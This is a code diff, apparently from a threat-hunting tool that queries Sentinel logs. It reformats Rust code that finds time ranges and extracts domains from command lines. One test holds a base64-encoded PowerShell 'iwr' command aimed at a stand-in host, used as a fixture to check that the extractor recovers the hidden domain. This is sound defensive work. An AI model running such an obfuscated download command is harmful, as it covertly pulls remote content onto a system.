@@ -209,7 +209,8 @@ impl Asking<'_> {
         }
         let mut times = Vec::new();
         for table in self.sentinel.schema()?.tables {
-            let timed = |column: &Column| column.name == "TimeGenerated" && column.kind == "datetime";
+            let timed =
+                |column: &Column| column.name == "TimeGenerated" && column.kind == "datetime";
             if table.columns.iter().any(timed) {
                 let bounds = "summarize First = min(TimeGenerated), Last = max(TimeGenerated)";
                 let text = format!("{} | {bounds}", quote_name(&table.name));
@@ -223,7 +224,8 @@ impl Asking<'_> {
         let end = options.end.or_else(|| latest(&times));
         start.zip(end).map(|(start, end)| Range { start, end }).ok_or_else(|| {
             HuntbookError::Config {
-                message: "no table in the logs has a `TimeGenerated` to say when things happened".into(),
+                message: "no table in the logs has a `TimeGenerated` to say when things happened"
+                    .into(),
                 hints: vec!["name the time range with `--start` and `--end`".into()],
             }
         })
@@ -283,9 +285,10 @@ fn domains(command: &str) -> Vec<String> {
     found
         .filter_map(|indicator| match indicator.kind {
             IndicatorKind::Domain => Some(indicator.value),
-            IndicatorKind::Url => {
-                indicator.host().filter(|host| host.kind == IndicatorKind::Domain).map(|host| host.value)
-            }
+            IndicatorKind::Url => indicator
+                .host()
+                .filter(|host| host.kind == IndicatorKind::Domain)
+                .map(|host| host.value),
             _ => None,
         })
         .collect()
@@ -325,7 +328,9 @@ mod tests {
     fn an_encoded_command_gives_away_its_domain() {
         // "iwr https://amber-otter.example.net/a" in UTF-16LE, base64.
         let hidden = "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYQBtAGIAZQByAC0AbwB0AHQAZQByAC4AZQB4AGEAbQBwAGwAZQAuAG4AZQB0AC8AYQA=";
-        assert!(domains(&format!("powershell.exe -EncodedCommand {hidden}"))
-            .contains(&"amber-otter.example.net".to_owned()));
+        assert!(
+            domains(&format!("powershell.exe -EncodedCommand {hidden}"))
+                .contains(&"amber-otter.example.net".to_owned())
+        );
     }
 }
